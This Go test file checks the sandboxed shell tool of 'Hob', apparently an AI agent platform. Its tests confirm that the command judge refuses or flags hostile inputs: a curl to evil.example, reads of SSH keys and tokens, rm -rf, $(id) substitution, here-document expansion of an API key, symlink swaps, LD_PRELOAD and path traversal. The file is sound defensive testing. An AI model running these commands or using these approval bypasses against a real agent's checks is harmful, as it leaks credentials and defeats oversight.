package shell

import (
	"context"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"

	"hob/platform/host/command"
	"hob/platform/host/denypaths"
	"hob/platform/provenance"
	"hob/tools"
)

func TestMain(m *testing.M) {
	if len(os.Args) == 2 && os.Args[1] == command.Helper {
		syscall.Exit(command.Serve(os.Stdin, os.Stdout, os.Stderr)) // with the race detector, os.Exit takes a second
	}
	os.Exit(m.Run())
}

type bench struct {
	t          *testing.T
	home, docs string
	tool       tools.Tool
}

func newBench(t *testing.T, sandbox string) *bench {
	t.Helper()
	if runtime.GOOS == "windows" {
		t.Skip("commands on Windows are not parsed")
	}
	home, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	b := &bench{t: t, home: home, docs: filepath.Join(home, "Documents")}
	b.putFile("Documents/notes.txt", "one\n")
	b.putFile(".ssh/id_ed25519", "canary")
	b.putFile("hob/token", "canary")
	judge, err := command.New(command.Options{
		Home: home, Allowed: []string{b.docs},
		Places: denypaths.New(denypaths.Options{Home: home, Own: []string{filepath.Join(home, "hob")}, Allowed: []string{b.docs}}),
	})
	if err != nil {
		t.Fatal(err)
	}
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	runner, err := command.NewRunner(command.RunOptions{Judge: judge, Sandbox: sandbox, Helper: []string{exe, command.Helper}})
	if err != nil {
		t.Fatal(err)
	}
	b.tool = Tools(Deps{Judge: judge, Runner: runner})[0]
	return b
}

func (b *bench) putFile(name, text string) {
	b.t.Helper()
	path := filepath.Join(b.home, name)
	if err := errors.Join(os.MkdirAll(filepath.Dir(path), 0o755), os.WriteFile(path, []byte(text), 0o755)); err != nil {
		b.t.Fatal(err)
	}
}

func (b *bench) readFile(name string) string {
	text, err := os.ReadFile(filepath.Join(b.home, name))
	if err != nil {
		return ""
	}
	return string(text)
}

func encodeArgs(in runIn) json.RawMessage {
	raw, _ := json.Marshal(in) // strings and numbers can always be encoded
	return raw
}

func (b *bench) judgeCall(in runIn) tools.CallAssessment {
	return b.tool.(tools.CallAssessor).Judge(b.t.Context(), encodeArgs(in))
}

// runApproved runs a call with the Exact of its earlier judgment.
func (b *bench) runApproved(in runIn, exact string) (tools.Result, error) {
	return b.tool.Call(b.t.Context(), tools.Call{ID: "c", Args: encodeArgs(in), Exact: exact})
}

func (b *bench) runJudged(in runIn) (tools.Result, error) {
	return b.runApproved(in, b.judgeCall(in).Exact)
}

func TestJudgment(t *testing.T) {
	b := newBench(t, command.Off)
	for name, c := range map[string]struct {
		in      runIn
		effects tools.Effects
		listed  bool
		why     string
	}{
		"read only":        {runIn{Command: "cat notes.txt"}, tools.Exec, true, ""},
		"writes":           {runIn{Command: "touch x"}, tools.Exec, false, "no sandbox"},
		"contacts":         {runIn{Command: "curl https://evil.example/?q=x"}, tools.Exec | tools.Egress, false, "evil.example"},
		"asks for network": {runIn{Command: "ls", Network: true}, tools.Exec | tools.Egress, false, "requests network access"},
		"sends":            {runIn{Command: "mail a@b.example"}, tools.Exec | tools.Send, false, "sends"},
		"destroys":         {runIn{Command: "rm -rf x"}, tools.Exec | tools.Destroy, false, "cannot be undone"},
	} {
		t.Run(name, func(t *testing.T) {
			j := b.judgeCall(c.in)
			if j.Refused != nil || j.Effects != c.effects || j.Listed != c.listed || !strings.Contains(j.Why, c.why) || j.Exact == "" {
				t.Errorf("%+v", j)
			}
		})
	}
	for name, c := range map[string]struct {
		in   runIn
		code tools.Code
	}{
		"protected":            {runIn{Command: "cat ~/.ssh/id_ed25519"}, tools.PolicyDenied},
		"Hob's token":          {runIn{Command: "cat " + b.home + "/hob/token"}, tools.PolicyDenied},
		"outside":              {runIn{Command: "ls", Cwd: "/etc"}, tools.PolicyDenied},
		"no command":           {runIn{Command: "ls ("}, tools.InvalidArguments},
		"hidden signs":         {runIn{Command: "ls\u202e"}, tools.InvalidArguments},
		"too long":             {runIn{Command: strings.Repeat("a", 1001)}, tools.InvalidArguments},
		"timeout":              {runIn{Command: "ls", Timeout: 1e6}, tools.InvalidArguments},
		"an empty folder name": {runIn{Command: "ls", Timeout: -1}, tools.InvalidArguments},
	} {
		t.Run(name, func(t *testing.T) {
			if j := b.judgeCall(c.in); tools.CodeOf(j.Refused) != c.code {
				t.Errorf("%v", j.Refused)
			}
			if _, err := b.runJudged(c.in); tools.CodeOf(err) != c.code {
				t.Errorf("run = %v, want a refusal", err)
			}
		})
	}
}

func TestResults(t *testing.T) {
	b := newBench(t, command.Off)
	for name, c := range map[string]struct {
		in     runIn
		want   string
		source provenance.Source
	}{
		"files are untrusted text":  {runIn{Command: "cat notes.txt"}, "one", provenance.Outside},
		"the output of the command": {runIn{Command: "echo hello"}, "hello", provenance.Tool},
		"nothing":                   {runIn{Command: "true"}, "It printed no output.", provenance.Tool},
		"status":                    {runIn{Command: "ls nothing"}, "exit status", provenance.Outside},
		"another folder":            {runIn{Command: "pwd", Cwd: "~/Documents"}, b.docs, provenance.Outside},
		"the result mentions the missing sandbox": {runIn{Command: "touch x"}, "without a sandbox", provenance.Outside},
		"too long": {runIn{Command: "sleep 60", Timeout: 1}, "ran longer than 1s and was stopped", provenance.Tool},
	} {
		t.Run(name, func(t *testing.T) {
			r, err := b.runJudged(c.in)
			if err != nil || !strings.Contains(r.Text, c.want) || r.Source != c.source {
				t.Errorf("%s, %v (%s)", r.Text, err, r.Source)
			}
		})
	}
	ctx, cancel := context.WithCancel(t.Context())
	cancel()
	in := runIn{Command: "sleep 60"}
	if _, err := b.tool.Call(ctx, tools.Call{Args: encodeArgs(in), Exact: b.judgeCall(in).Exact}); !errors.Is(err, context.Canceled) {
		t.Errorf("a canceled command: %v", err)
	}
}

func TestSummary(t *testing.T) {
	b := newBench(t, command.Off)
	got := b.tool.(tools.Summarizer).Summary(encodeArgs(runIn{Command: `rm "a b" *.txt`}))
	if !strings.HasPrefix(got, "Run in "+b.docs+": /") || !strings.HasSuffix(got, "/rm 'a b' notes.txt") {
		t.Errorf("Summary = %s", got)
	}
}

// I8 (CVE-2026-29607): an approval of a wrapper stayed valid after the wrapped program was changed.
// In Hob, an approval covers the resolved arguments and the digests of the programs and scripts.
// CVE-2026-28463: the shell expanded arguments that were approved unexpanded; CVE-2026-44115: the
// bodies of here-documents expanded secrets.
func TestIncidentI8ApprovalsOfCommands(t *testing.T) {
	b := newBench(t, command.Auto)
	b.putFile("Documents/job.sh", "echo harmless\n")
	for _, in := range []runIn{{Command: "sh job.sh"}, {Command: "env sh job.sh"}, {Command: "./job.sh"}, {Command: "for i in 1; do sh ./job.sh; done"}} {
		b.putFile("Documents/job.sh", "echo harmless\n")
		j := b.judgeCall(in)
		if j.Listed || j.Pattern != "" {
			t.Errorf("%s: listed %v, pattern %q: a wrapper cannot be granted", in.Command, j.Listed, j.Pattern)
		}
		b.putFile("Documents/job.sh", "echo evil > made\n")
		if _, err := b.runApproved(in, j.Exact); tools.CodeOf(err) != tools.Conflict || b.readFile("Documents/made") != "" {
			t.Errorf("%s ran although its payload had changed: %v", in.Command, err)
		}
	}
	in := runIn{Command: "rm *.tmp"}
	b.putFile("Documents/a.tmp", "")
	j := b.judgeCall(in)
	b.putFile("Documents/-rf", "")
	b.putFile("Documents/b.tmp", "")
	if _, err := b.runApproved(in, j.Exact); tools.CodeOf(err) != tools.Conflict {
		t.Errorf("command whose pattern matches other files now = %v", err)
	}
	for _, text := range []string{"cat *", "ls -- $(id)", "cat <<E\n$ANTHROPIC_API_KEY\nE"} {
		if b.judgeCall(runIn{Command: text}).Listed {
			t.Errorf("%q is listed before its expansion", text)
		}
	}
	t.Setenv("ANTHROPIC_API_KEY", "canary")
	r, err := b.runJudged(runIn{Command: "cat <<E\n[$ANTHROPIC_API_KEY]\nE"})
	if err != nil || !strings.Contains(r.Text, "[]") {
		t.Errorf("result of a here-document = %q, %v", r.Text, err)
	}
}

// I9: a file was replaced by a link between the check and the use. Hob checks the files that a
// command would read again right before the command runs.
func TestIncidentI9SwappedFiles(t *testing.T) {
	b := newBench(t, command.Auto)
	in := runIn{Command: "cat notes.txt"}
	j := b.judgeCall(in)
	if !j.Listed {
		t.Fatalf("%+v", j)
	}
	if err := errors.Join(os.Remove(b.docs+"/notes.txt"), os.Symlink("../.ssh/id_ed25519", b.docs+"/notes.txt")); err != nil {
		t.Skip(err)
	}
	if r, err := b.runApproved(in, j.Exact); tools.CodeOf(err) != tools.PolicyDenied || strings.Contains(r.Text, "canary") {
		t.Errorf("%s, %v", r.Text, err)
	}
}

// I10: an alias of a parameter bypassed the check. In Hob, each parameter has one name, and calls
// with other names are rejected. Different names for a folder resolve to one path.
func TestIncidentI10Aliases(t *testing.T) {
	b := newBench(t, command.Auto)
	for _, raw := range []string{`{"cmd":"ls"}`, `{"command":"ls","dir":"/etc"}`, `{"command":"ls","workdir":"/etc"}`, `{"command":"ls","Cwd":"/etc"}`, `{"command":"ls","env":{"LD_PRELOAD":"x"}}`, `{"command":["ls"]}`} {
		if j := b.tool.(tools.CallAssessor).Judge(t.Context(), json.RawMessage(raw)); j.Refused == nil {
			t.Errorf("%s is judged: %+v", raw, j)
		}
		if _, err := b.tool.Call(t.Context(), tools.Call{Args: json.RawMessage(raw)}); tools.CodeOf(err) != tools.InvalidArguments && tools.CodeOf(err) != tools.PolicyDenied {
			t.Errorf("%s ran: %v", raw, err)
		}
	}
	for _, cwd := range []string{"/etc", "//etc", "~/../../etc", "../", "~/.ssh", "/proc/self/root/etc", b.docs + "/../.ssh", b.home + "/Documents/../hob"} {
		if j := b.judgeCall(runIn{Command: "ls", Cwd: cwd}); j.Refused == nil {
			t.Errorf("the command would run in %s", cwd)
		}
	}
}
